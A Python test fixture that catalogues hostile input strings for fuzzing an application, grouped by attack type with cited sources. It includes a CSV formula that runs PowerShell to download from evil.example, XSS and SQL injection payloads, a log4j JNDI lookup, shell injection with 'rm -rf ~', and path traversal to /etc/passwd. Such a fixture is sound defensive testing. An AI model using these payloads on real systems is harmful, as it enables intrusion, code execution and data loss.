"""Texts that attack whatever shows or stores them, by what they attack; each group names where its texts come from."""

from __future__ import annotations

from collections.abc import Mapping

from tests.hostile.size import TORTURE

ESC, CSI, OSC, ST = "\x1b", "\x1b[", "\x1b]", "\x1b\\"

GROUPS: Mapping[str, tuple[str, ...]] = {
    # ECMA-48 and XTerm Control Sequences (ctlseqs): colours, titles, reports that the terminal types back, clipboard
    # (OSC 52), links (OSC 8), iTerm2's and kitty's files, DECRQSS; D. Leadbeater, "ANSI Terminal security in 2023".
    "terminal": (
        f"A{CSI}31mB{CSI}0m", f"A{CSI}2J{CSI}HB", f"A{CSI}?1049hB", f"A{CSI}?25lB", f"A{CSI}6nB", f"A{CSI}cB",
        f"A{CSI}21tB", f"A{CSI}8mhidden{CSI}28mB", f"A{CSI}1A{CSI}2KB", f"A{CSI}999;999HB", f"A{CSI}5iB{CSI}4iC",
        f"A{CSI}200~rm -rf ~{CSI}201~B", f"A{CSI}>0qB", f"A{CSI}?1000hB", f"A{CSI}20;1RB",
        f"A{OSC}0;title\x07B", f"A{OSC}2;title{ST}B", f"A{OSC}8;;https://evil.example{ST}here{OSC}8;;{ST}B",
        f"A{OSC}52;c;cm0gLXJmIH4K\x07B", f"A{OSC}52;c;?\x07B", f"A{OSC}4;1;?\x07B", f"A{OSC}10;?\x07B",
        f"A{OSC}1337;File=name=eA==;inline=1:QUFB\x07B", f"A{OSC}777;notify;x;y\x07B", f"A{OSC}9;x\x07B",
        f"A{OSC}104;rgb:{ST}B", f"A{ESC}PqB{ST}C", f"A{ESC}P$q\"p{ST}B", f"A{ESC}P+q544e{ST}B",
        f"A{ESC}_Ga=T,f=100;QUFB{ST}B", f"A{ESC}^private{ST}B", f"A{ESC}Xstring{ST}B", f"A{ESC}cB", f"A{ESC}7{ESC}8B",
        f"A{ESC}(0lqqkB", f"A{ESC}#8B", f"A{ESC}ZB", f"A{ESC}{ESC}[31mB", f"A{CSI}", "A\x9b31mB", "A\x9d0;title\x9cB",
        "A\x90q\x9cB", "A\x9f1\x9cB", "A\x07\x07B", "A\x08\x08\x08B", "A\rB", "A\x0bB\x0cC", "A\x0eB\x0fC", "A\x7fB",
        "A\x05B", "A\x18B\x1aC", "A\x85B", "A\x84B\x8dC",
    ),
    # Every C0 and C1 control by itself (ISO/IEC 6429), NUL among them.
    "control": tuple(f"A{chr(code)}B{code:02x}" for code in (*range(0x20), *range(0x7F, 0xA0))),
    # Unicode TR 36 and 39, "Trojan Source" (CVE-2021-42574): direction, zero width, tags, separators, fillers.
    "unseen": (
        "\u202eexe.gpj", "jpg.\u202dexe\u202c", "user\u2066//\u2069 end",
        *(f"A{chr(code)}B{code:x}" for code in (
            0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029,
            0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2064, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A,
            0x206F, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0x1D173, 0xE0001, 0xE0041, 0xE007F, 0xE0100,
        )),
    ),
    # OWASP and PayloadsAllTheThings, "CSV Injection"; signs of which a normal form makes those (UnicodeData.txt).
    "formula": (
        "=1+1", "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget evil.example/x)'!A0", "+1+1", "-1+1",
        "@SUM(1+1)*cmd",
        "-2+3+cmd|' /C calc'!D2", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
        "\u3000=1+1", "\xa0=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "⁼1+1", "₌1", "⁺1", "⁻1", "﹣1",
        "﹢1", "﹫x",
        "'=1+1", "''=1+1", "\"=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\ufe0f=1+1", "\u034f=1+1",
        "\u3164=1+1",
        "≠1", "≠\u0338", "=\u0338+1", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
        "=IMPORTXML(\"http://x\",\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")", "a\",=1+1,\"b", "a\";=1+1;\"b",
        "a\r\n=1+1",
        "a\n=1+1", "%0A=1+1", "=10+20+cmd|' /C calc'!A0",
    ),
    # RFC 2426, 6350 and 5545: line ends, folding, parameters and separators of vCards and calendars.
    "lines": (
        "A\nEND:VCARD\nBEGIN:VCARD\nVERSION:3.0\nFN:Mallory\nEND:VCARD",
        "A\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:M\r\nEND:VCARD",
        "A\nTEL:0312345678", "A\r\n X-FOLDED:1", "A\\nTEL:0312345678", "A\\\nTEL:1", "A;TYPE=x:B", "A;B;C;D;E;F",
        "A,B,C",
        "A\\", "A\\\\", "A\\,B\\;C\\n", "A^nB^'C^^D", "A\"B:C;D\"E", "BEGIN:VCARD", "END:VCARD", "VERSION:2.1",
        "A=\r\nB", "A=0D=0AEND:VCARD", "A;ENCODING=QUOTED-PRINTABLE:=41", "A;ENCODING=b:AAAA", "A\x85END:VCARD",
        "A\u2028END:VCARD",
        "A\nEND:VTODO\nEND:VCALENDAR\nBEGIN:VCALENDAR\nBEGIN:VEVENT", "A\nATTACH:file:///etc/passwd",
        "A\nBEGIN:VALARM\nACTION:PROCEDURE",
        "MECARD:N:A;TEL:1;;", "A;;TEL:1", "BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT", "A\n\n\nB", " A\n B", "A\n", ";",
        ",", ":", "\\n",
    ),
    # rich's own markup and emoji codes (its documentation, "Console Markup"), Textual's actions, click's and logging's.
    "markup": (
        "[link=https://evil.example]A[/link]", "[/x]A", "[/]", "[bold]A", "[bold red on white]A[/]",
        "[@click=app.bell]A[/]",
        "A :smile: :warning:", "[red", "]A[", "\\[bold]A", "[#ff0000]A", "[not bold]A[/not bold]", "[[A]]",
        "[link=javascript:x]A",
        "%(levelname)s A", "[sound:x.mp3]", "[latex]\\input{/etc/passwd}[/latex]", "[$]x[/$]", "{{c1::A}}",
        "{{Name}}{{#Look}}x",
        "{{FrontSide}}", "\\(\\LaTeX\\)",
    ),
    # FTS5's query language (sqlite.org/fts5.html, 3) and the usual SQL (PayloadsAllTheThings, "SQLite Injection").
    "query": (
        "' OR '1'='1", "'; DROP TABLE people; --", "Robert'); DROP TABLE people;--", "\" OR 1=1 --", "A\"B", "\"",
        "\"\"", "'", "`", "A AND B",
        "NOT", "AND", "OR", "NEAR(a b, 5)", "name : x* AND NOT ^y", "{name reading} : a", "- {name} : a", "*", "^",
        "a*", "(", ")", "((a)",
        "a + b", "person_index", "rowid:1", "'||(SELECT hex(randomblob(9)))||'", "1;ATTACH DATABASE '/tmp/x' AS y",
        "% _ \\ %25",
        "load_extension('x')", ":p1 @p1 $p1 ?1", "PRAGMA writable_schema=1", "met:", "met:x", "met:2026-99",
        "name:", "-", "--", "-name:-",
    ),
    # OWASP "Cross Site Scripting Prevention", PayloadsAllTheThings "XSS Injection", html5sec.org.
    "html": (
        "<script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
        "</dd><img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
        "\"><script>alert(1)</script>",
        "'><svg/onload=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
        "<a href=javascript:alert(1)>A</a>",
        "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
        "<math><mi xlink:href=data:x,<script>alert(1)</script>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
        "<style>@import 'http://evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<form action=//evil.example><input name=x>", "<object data=//evil.example>", "<embed src=//evil.example>",
        "<details open ontoggle=alert(1)>",
        "<template><img src=x onerror=alert(1)></template>", "<plaintext>", "<textarea>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script>", "&amp;lt;",
        "＜script＞alert(1)＜/script＞", "<scr\x00ipt>alert(1)</script>",
        "expression(alert(1))", "background:url(//evil.example)", "}*{display:none}",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "<?xml version='1.0'?>", "<?php system('id') ?>", "<%= 7*7 %>", "<x xmlns:xlink=1>",
        "<img/src/onerror=alert(1)>", "<p style=color:red>A</p>",
    ),
    # RFC 3986 schemes that browsers and address books act on (WHATWG URL; "Living off the land" lists of handlers).
    "scheme": (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "file:///etc/passwd", "\\\\evil.example\\share", "//evil.example",
        "https://user:pass@evil.example/",
        "http://169.254.169.254/latest/meta-data/", "ms-msdt:/id PCWDiagnostic", "tel:*#06#", "sms:+1?body=x",
        "mailto:a@b.example?bcc=c@d.example",
        "smb://evil.example/x", "ldap://evil.example/x", "${jndi:ldap://evil.example/x}", "xn--80ak6aa92e.com",
        "https://еxample.com/", "http://[::1]/",
    ),
    # OWASP "Path Traversal"; Microsoft, "Naming Files, Paths, and Namespaces".
    "path": (
        "../../etc/passwd", "..\\..\\windows\\system.ini", "/etc/passwd", "C:\\Windows\\win.ini", "....//....//x",
        "%2e%2e%2fx", "..%00/x",
        "..", ".", "~", "~root", "$HOME", "CON", "NUL.txt", "COM1", "LPT1.vcf", "aux", "PRN", "AUX.h.", "A:B",
        "A?*<>|B", "A ", "A.", "-rf", "--out=/tmp/x",
        "x" * 255, ".cardscan-x.part", "cardscan.sqlite3", "file\\\\?\\C:\\x", "/dev/zero", "/proc/self/environ",
    ),
    # Format strings (OWASP), shells (PayloadsAllTheThings, "Command Injection"), YAML, templates (PortSwigger,
    # "Server-side template injection").
    "language": (
        "%s%s%s%n", "%x %p %d", "{0} {name} {}", "{0.__class__.__mro__}", "${HOME}", "$(id)", "`id`", "; id",
        "| id", "&& id", "$(rm -rf ~)", "'; id; '", "\"; id; \"",
        "A\nid", "!ls", "$PATH", "A&B", "A#B", "{{7*7}}", "{{config}}", "{% raw %}x{% endraw %}", "{%for x in y%}",
        "#{7*7}", "${7*7}", "<#assign x=1>", "*{7*7}",
        "!!python/object/apply:os.system [id]", "- {a: b}: &x", "*alias", "# not a comment", "A: B: C", "? A",
        "--- A", "... A", "| A", "> A", "% A", "null", "true", "1e9", "0x1F",
        "__import__('os').system('id')", "\\x1b[31m", "\\u001b[31m", "\\033[31m", "NaN", "Infinity", "-0",
        "9" * 400, "undefined",
    ),
    # Unicode at its edges: lone surrogates, noncharacters, private use, floods of marks, joined sequences, very long.
    "unicode": (
        "A\ud800B", "A\udfffB", "\udcff\udcfe.jpg", "A\ufffeB", "A\uffffB", "A\U0010ffffB", "A\ufffdB",
        "A\ue000B\uf8ffC", "A\U000f0000B", "Z" + "\u0300" * 200,
        "A" + "\u0e49" * 100, "\u0300A", "か\u3099き\u309a", "葛\U000e0100城", "﷽" * 20, "👨\u200d👩\u200d👧\u200d👦",
        "🏳\ufe0f\u200d🌈", "🇯🇵🇯", "👩🏽\u200d💻", "①㈱℡㍿", "ﬀﬁﬂ", "ÅÅÅ", "İıẞß", "ⅨⅠ", "١٢٣٤", "٠٣-١٢٣٤",
        "صلى", "เเเ", "龘" * 300, "A" * 5000, "a b " * 800, "\U00020bb7野家", "𠮷" * 50, "\ufffex", "\U0001f600" * 100,
        "A\u2800B", "𝓐𝓑𝓒", "ａｄｍｉｎ", "раураl",
    ),
}  # fmt: skip
"""Group → texts, each distinct."""


ALL = {f"{group}-{place}": text for group, texts in GROUPS.items() for place, text in enumerate(texts)}
"""Every text by the name of its group and its place in it, as ``formula-3``."""

PAYLOADS = {
    name: text for number, (name, text) in enumerate(ALL.items()) if TORTURE or number % 2 == 0 or "formula" in name
}
"""What tests go through: all in torture, else half of them and every formula."""

WORST = {name: text for name, text in ALL.items() if name.endswith(("-0", "-16"))}
"""Two of each group, for what takes a person a screen."""
